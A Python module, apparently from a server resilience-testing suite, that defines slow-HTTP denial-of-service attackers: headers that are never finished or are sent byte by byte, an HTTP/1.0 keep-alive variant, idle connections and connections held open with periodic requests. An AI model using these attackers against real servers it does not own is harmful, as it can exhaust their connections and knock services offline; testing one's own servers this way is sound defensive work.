"""Attackers that never finish their headers."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from itertools import chain, count

from attacks.attackers.base import AttackContext, Attacker, request
from attacks.connection import CLOSED, RawConnection


class UnfinishedHeaders(Attacker):
    """Sends most of a request immediately, and then one header per second."""

    name = "headers: unfinished"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Keep the empty line back."""
        connection.send(request(context, "GET", "/api/")[:-2])
        return await connection.trickle(_headers(), pace=1)


class TrickledHeaders(Attacker):
    """Sends a whole request byte by byte."""

    name = "headers: byte by byte"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Send two bytes per second."""
        start = request(context, "GET", "/api/")[:-2]
        bytes_of_it = (bytes([byte]) for byte in start)
        return await connection.trickle(chain(bytes_of_it, _headers()), pace=0.5)


class OldVersion(Attacker):
    """Uses HTTP/1.0, whose requests some servers read differently."""

    name = "headers: unfinished, HTTP/1.0"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Keep the empty line back."""
        start = request(
            context, "POST", "/sign-in", "Connection: keep-alive", version="1.0"
        )
        connection.send(start[:-2])
        return await connection.trickle(_headers(), pace=1)


class Idle(Attacker):
    """Connects and sends nothing."""

    name = "idle connections"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Wait until the server closes the connection."""
        return await connection.outcome()


class KeptAlive(Attacker):
    """Sends an occasional request over a connection that it never closes."""

    name = "kept connections"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Send a cheap request every two seconds."""
        connection.send(request(context, "GET", "/livez"))
        while await connection.read(4096):
            await asyncio.sleep(2)
            connection.send(request(context, "GET", "/livez"))
        return CLOSED


def _headers() -> Iterator[bytes]:
    return (b"X-%d: x\r\n" % number for number in count())


ATTACKER_TYPES: tuple[Attacker, ...] = (
    UnfinishedHeaders(),
    TrickledHeaders(),
    OldVersion(),
    Idle(),
    KeptAlive(),
)
